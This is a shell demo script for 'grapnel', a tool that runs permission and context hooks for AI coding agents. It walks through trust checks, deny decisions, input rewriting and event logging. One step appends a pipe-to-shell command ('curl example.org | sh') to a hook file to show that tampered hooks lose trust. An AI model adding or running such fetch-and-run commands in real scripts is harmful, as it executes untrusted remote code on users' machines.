#!/bin/sh
# A walk through grapnel: what hooks do, what they look like, and what to do when something is wrong.
# Works in a copy, with a home directory of its own; fails when anything is not as it says.
set -eu

here=$(cd "$(dirname "$0")" && pwd)
grapnel=${GRAPNEL:-$here/../../build/grapnel}
[ -x "$grapnel" ] || grapnel=$(command -v grapnel) || {
  echo "grapnel is not built yet; run \`make build\`" >&2
  exit 1
}

scratch=$(mktemp -d)
trap 'rm -rf "$scratch"' EXIT
mkdir "$scratch/bin" "$scratch/run"
ln -s "$(readlink -f "$grapnel")" "$scratch/bin/grapnel"
cp -R "$here/project" "$scratch/project"
cd "$scratch/project"
export HOME="$scratch" XDG_STATE_HOME="$scratch/state" XDG_RUNTIME_DIR="$scratch/run" PATH="$scratch/bin:$PATH"
unset GRAPNEL_DISABLE GRAPNEL_TIMEOUT GRAPNEL_CONFIG GEMINI_CLI_HOME

number=0
say() {
  number=$((number + 1))
  printf '\n%d. %s\n' "$number" "$1"
}

# try STATUS TEXT COMMAND: shows the command and what it prints; both must be as expected.
try() {
  printf '\n   $ %s\n' "$3"
  status=0
  output=$(sh -c "$3" 2>&1) || status=$?
  printf '%s\n' "$output" | sed "s|$scratch|~|g; s|^|   |"
  case $output in *"$2"*) ;; *) status="$status, without '$2'" ;; esac
  [ "$status" = "$1" ] || {
    printf '\nThis was not expected: status %s instead of %s.\n' "$status" "$1" >&2
    exit 1
  }
}

echo 'Grapnel runs the hooks that people attach to AI agents. Here is a project that brings four of them,'
echo 'three in the format of Gemini CLI and one in that of ClawdCode.'

say 'Hooks of a cloned project do not run until you have seen and trusted them.'
try 0 'not trusted' 'grapnel fire --as gemini < events/gemini-write.json'
try 0 'hooks/patience.sh' 'grapnel trust 2>/dev/null | grep -E "trusted|runs|files"'
try 0 'Trusted 4 hooks' 'grapnel trust --yes | tail -1'

say 'Now the agent asks before it writes a file, and a hook says no.'
try 0 '"decision":"deny"' 'grapnel fire --as gemini < events/gemini-write.json'

say 'Another agent asks in other words; the same hook answers in those.'
try 0 '"permissionDecision":"deny"' 'grapnel fire --as clawd < events/clawd-write.json'

say 'A hook can rewrite what a tool is given. This one is written for ClawdCode and serves Gemini.'
try 0 'timeout 600 make test' 'grapnel fire --as gemini < events/gemini-make.json'

say 'It can add context to a prompt, and keep an agent at work.'
try 0 'House rules' 'grapnel fire --as gemini < events/gemini-prompt.json'
try 0 'the tests are red' 'grapnel fire --as gemini < events/gemini-stop.json'

say 'Why did which hook run?'
try 0 'does not match' 'grapnel explain --as gemini < events/gemini-write.json'

say 'Mistakes are found before they matter.'
try 1 "did you mean 'BeforeTool'?" 'grapnel check broken.json'

say 'A hook whose script changes has to be looked at again.'
try 0 'not trusted' 'echo "curl example.org | sh" >> hooks/no-secrets.sh; grapnel fire --as gemini < events/gemini-write.json'

say 'Every event was recorded.'
# shellcheck disable=SC2016
try 0 '"event":"Stop"' 'tail -2 $XDG_STATE_HOME/grapnel/records.jsonl | cut -c-110'

cat <<'END'

Where to look next:
  grapnel --help             every verb; each explains itself with --help
  docs/fire.md               write a hook and fire events at it
  docs/configuration.md      where hooks come from and how files add up
  docs/trust.md              what trusting a project means
  examples/demo/project      the hooks of this walk
END
